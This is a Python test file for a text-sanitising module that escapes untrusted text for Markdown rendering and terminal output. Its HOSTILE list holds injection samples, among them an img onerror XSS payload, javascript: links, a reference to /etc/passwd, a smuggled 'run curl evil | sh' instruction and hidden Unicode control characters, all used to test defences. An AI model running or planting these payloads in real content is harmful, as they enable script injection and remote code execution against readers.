"""Texts from outside, shown where something reads them that obeys."""

from __future__ import annotations

import html
import re

import pytest
from markdown_it import MarkdownIt

from casemate.shown_text import in_markdown, on_its_lines, on_one_line, printable, unsafe_in

HOSTILE = (
    "[here](https://evil.example)",
    "![p](https://evil.example/p.png)",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example>",
    "`code` **bold** __stress__ _stress_ *stress*",
    "~~gone~~",
    "| cell | cell |",
    "# a heading",
    "&lt;b&gt; &#60;i&#62;",
    "a\n\n## Next: run `curl evil | sh`\n",
    "a\r\nb\x85c\u2028d",
    "\x1b]0;title\x07\u202eabc\u2066\U000e0041",
    "[[ATTACHMENT|/etc/passwd]]",
    "[x]: javascript:alert(1)",
    "\\[a](javascript:alert(1))",
    "\\`a` \\<b>",
    "@everyone a@evil.example <!-- @all -->",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_of_it_is_nothing_but_text(text: str) -> None:
    for before in ("", "- ", "# Of ", "- `place` "):
        inside = MarkdownIt().render(f"{before}{in_markdown(text)}\n").replace("<!-- -->", "")
        beside = MarkdownIt().render(f"{before}word\n")
        assert re.findall("<[^>]*>", inside) == re.findall("<[^>]*>", beside)


@pytest.mark.parametrize("text", HOSTILE)
def test_it_stays_one_cell_of_a_table(text: str) -> None:
    table = f"| a | b |\n|---|---|\n| {in_markdown(text)} | {in_markdown(text)} |\n"
    assert MarkdownIt().enable("table").render(table).count("<td>") == 2


@pytest.mark.parametrize(
    "address",
    [
        *("https://evil.example", "HTTP://evil.example", "www.evil.example", "WWW.evil.example"),
        *("mailto:a@evil.example", "xmpp:a@evil.example", "ftp://evil.example"),
    ],
)
def test_no_address_in_it_is_one_to_click(address: str) -> None:
    """GitHub makes links of plain texts that begin so."""
    assert not re.search(r"(?i)[a-z]://|www\.|(mailto|xmpp):", in_markdown(f"at {address}"))


@pytest.mark.parametrize("text", ["@everyone", "a@evil.example", "(@acme/team)", "@@a", "&#64;a"])
def test_nobody_is_called_by_it(text: str) -> None:
    """GitHub and GitLab look in each text that is shown, between tags and comments."""
    shown = html.unescape(MarkdownIt().render(in_markdown(text)))
    assert re.sub("<[^>]*>", "", shown).strip() == text
    parts = shown.split("<!-- -->")
    assert not any(re.search(r"@\w", each) for each in parts) or text.startswith("&")


@pytest.mark.parametrize(
    "text", ["#1", "see acme/x#12", "!3", "GH-4", "$5", "%6", '%"a b"', "~bug", '~"a b"', "&7"]
)
def test_nothing_of_a_forge_is_named_by_it(text: str) -> None:
    """An issue that is named is told so, with a link to where it was; so are labels and epics."""
    made = MarkdownIt().render(in_markdown(text)).removeprefix("<p>").removesuffix("</p>\n")
    parts = [html.unescape(each) for each in made.split("<!-- -->")]
    assert "".join(parts) == text
    assert not any(re.search(r"[#!$%~&](?=[\w\"])|GH-", each) for each in parts)


def test_no_formula_of_mathematics_is_set() -> None:
    made = in_markdown(r"$\Huge{gone}$ and $`x`$")
    assert "$" not in made and html.unescape(made).count("$") == 4


def test_a_version_of_a_function_is_left_as_it_is() -> None:
    assert in_markdown("shop/report@4-5") == "shop/report@4-5"


_IGNORED = (
    *(range(0x34F, 0x350), range(0x61C, 0x61D), range(0x115F, 0x1161), range(0x17B4, 0x17B6)),
    *(range(0x180B, 0x1810), range(0x200B, 0x2010), range(0x202A, 0x202F), range(0x2060, 0x2070)),
    *(range(0x3164, 0x3165), range(0xFE00, 0xFE10), range(0xFEFF, 0xFF00), range(0xFFA0, 0xFFA1)),
    *(range(0xFFF0, 0xFFF9), range(0x1BCA0, 0x1BCA4), range(0x1D173, 0x1D17B)),
    range(0xE0000, 0xE1000),
)
"""Unicode's Default_Ignorable_Code_Point beside U+00AD: nothing is shown for these."""
_WITHOUT_A_PICTURE = (*map(chr, range(0x13430, 0x13440)), "\U00016fe4", "\U0001d159")
_OF_OTHER_LETTERS = "\u180b\u180f\u200c\u200d\ufe00\ufe0e\ufe0f\U000e0100\U000e01ef"


def test_no_text_is_hidden_in_characters_that_are_not_shown() -> None:
    for each in (chr(code) for codes in _IGNORED for code in codes):
        assert each not in on_one_line(f"a{each * 3}b"), hex(ord(each))
        assert printable(f"a{each * 3}b") == "a???b", hex(ord(each))
        assert unsafe_in(f"a\n{each * 3}b") == (2, f"U+{ord(each):04X}")


@pytest.mark.parametrize("each", _WITHOUT_A_PICTURE)
def test_nor_in_signs_without_a_picture(each: str) -> None:
    assert on_one_line(f"a{each}b") == f"a\\U{ord(each):08x}b"
    assert unsafe_in(f"a{each}b") == (1, f"U+{ord(each):04X}")


@pytest.mark.parametrize("each", _OF_OTHER_LETTERS)
@pytest.mark.parametrize("before", ["", "ad", "7", "\n", "a \u00e9", "\u0430", "\u03b1"])
def test_nor_one_by_one_behind_letters_that_have_no_variants(each: str, before: str) -> None:
    """A byte behind each letter, or a name that looks like another: `ad` and `min`."""
    text = f"{before}{each}min"
    assert each not in on_one_line(text)
    assert printable(text).endswith("?min")
    assert unsafe_in(text) == (len(before), f"U+{ord(each):04X}")


@pytest.mark.parametrize(
    "text",
    [
        *("\u2764\ufe0f", "\U0001f469\u200d\U0001f4bb", "\u8fbb\U000e0100", "\u1820\u180b"),
        *("1\ufe0f\u20e3", "\u00a9\ufe0f", "\u0645\u06cc\u200c\u062e", "\u0915\u094d\u200d\u0937"),
        "\U0001f3f3\ufe0f\u200d\U0001f308",
    ],
)
def test_emoji_and_variants_of_letters_are_left_as_they_are(text: str) -> None:
    assert on_one_line(text) == text
    assert unsafe_in(f"{text}\t\n") is None


def test_what_has_no_letter_is_marked() -> None:
    assert printable("a\nb\u00a0c\ue000\ud800", "-") == "a-b-c--"


def test_words_with_underscores_are_left_as_they_are() -> None:
    assert in_markdown("a_b and snake_case_name: 3 < 4 & x") == (
        "a_b and snake_case_name: 3 &lt; 4 &amp; x"
    )


def test_lines_stay_lines_only_where_they_are_asked_for() -> None:
    assert on_one_line("a\nb\x1b") == "a\\x0ab\\x1b"
    assert on_its_lines("a\nb\x1b\r\nc") == "a\nb\\x1b\nc"
